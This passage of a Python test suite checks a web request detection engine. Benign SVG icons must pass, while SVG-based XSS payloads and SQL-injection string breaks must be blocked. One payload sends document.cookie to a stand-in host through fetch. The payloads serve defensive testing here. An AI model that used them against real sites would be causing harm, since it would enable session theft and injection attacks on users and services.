        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><title>Star</title><use href="#icon-star"/>'
        '<path d="M12 2l3 7h7l-5.5 4.5L18 21l-6-4-6 4 1.5-7.5L2 9h7z" fill="currentColor"/></svg>',
    ],
)
def test_an_svg_icon_in_a_form_or_json_field_passes(engine: DetectionEngine, svg: str) -> None:
    """An SVG document sent as a field (an icon or a logo for an API that stores it), with
    an XML prolog, shapes, colours and a ``<use href="#...">`` of its own symbol, passes."""
    requests = [
        make_request(
            "/v1/icons",
            method="POST",
            body="name=star&image=" + quote(svg, safe=""),
            content_type="application/x-www-form-urlencoded",
        ),
        make_request("/v1/icons", method="POST", body=json.dumps({"svg": svg}), content_type="application/json"),
    ]
    for request in requests:
        verdict = engine.evaluate(request)
        assert verdict.block_category is None, (svg, verdict.log_record())


@pytest.mark.parametrize(
    "payload",
    [
        "<svg onload=alert(1)>",
        "<svg/onload=fetch(`//x.example?c=${document.cookie}`)>",
        "<svg><script>alert(1)</script>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>go</text></a>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<svg><foreignObject><iframe src=javascript:alert(1)>",
        '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/></svg>',
        '<svg><use xlink:href="data:image/svg+xml,<svg id=x><a>x</a></svg>#x"/></svg>',
    ],
)
def test_what_runs_in_an_svg_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """An SVG with a handler, a script, an animation that sets a javascript: link or a
    handler, embedded HTML, or a ``<use>`` of a document in a data: URL is refused
    wherever it is placed."""
    blocked_everywhere(engine, payload, "xss")


@pytest.mark.parametrize("payload", ["admin'#", 'admin"#', "1';--", "x'/*", "a=b'--"])
def test_a_string_break_then_a_comment_is_still_blocked(engine: DetectionEngine, payload: str) -> None:
    """A quote that closes a string, then a comment or a statement's end, is refused: only
    a quote right after ``=`` (an attribute's value opening) no longer counts (rule 1014)."""
    for request in in_values(payload):
        verdict = engine.evaluate(request)
        assert verdict.block_category == "sqli", (payload, verdict.log_record())
